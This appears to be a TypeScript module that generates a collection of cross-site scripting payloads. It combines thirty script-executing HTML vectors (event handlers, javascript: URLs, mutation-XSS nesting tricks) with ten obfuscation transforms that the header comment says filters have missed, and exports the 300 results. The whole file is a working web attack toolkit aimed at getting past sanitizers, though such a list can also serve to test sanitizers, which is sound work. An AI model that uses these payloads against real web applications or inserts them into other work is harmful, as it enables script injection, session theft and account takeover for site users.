// HTML that runs a script wherever it is inserted as it is: thirty ways, each written in ten forms that filters have missed.

/** What a payload calls. */
const RUN = 'ran()'

const WAYS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" alt="">`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe onload=${RUN}></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video onerror=${RUN} src=x></video>`,
  `<video><source onerror=${RUN} src=x></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:parent.${RUN}">`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<p onclick=${RUN} onmouseover=${RUN} tabindex=0 onfocus=${RUN}>x</p>`,
  `<style onload=${RUN}>p{}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<title><a id="</title><img src=x onerror=${RUN}>"></title>`,
  `<table background="javascript:${RUN}"><tr><td onmouseover=${RUN} onclick=${RUN}>x</td></tr></table>`,
]

const BEFORE_ATTRIBUTE = / (?=[a-z:]+=)/gi
const FORMS: ((html: string) => string)[] = [
  html => html,
  html => html.replaceAll(/<\/?[a-z]+/g, tag => tag.toUpperCase()),
  html => html.replaceAll(BEFORE_ATTRIBUTE, '/'),
  html => html.replaceAll(BEFORE_ATTRIBUTE, '\n\t'),
  html => html.replaceAll(/=("?)ran\(\)/g, '=$1&#114;an&lpar;)').replaceAll('javascript:', '&#x6a;avascript&colon;'),
  html => html.replaceAll('javascript:', 'java\tscript\n:'),
  html => html.replace('<', '<<'),
  html => `<!--><!-- --!>${html}`,
  html => html.replaceAll('script', 'scr<script></script>ipt').replaceAll('on', 'o<b>n'),
  html => `"'></p></div>${html}`,
]

export const PAYLOADS = WAYS.flatMap(way => FORMS.map(form => form(way)))
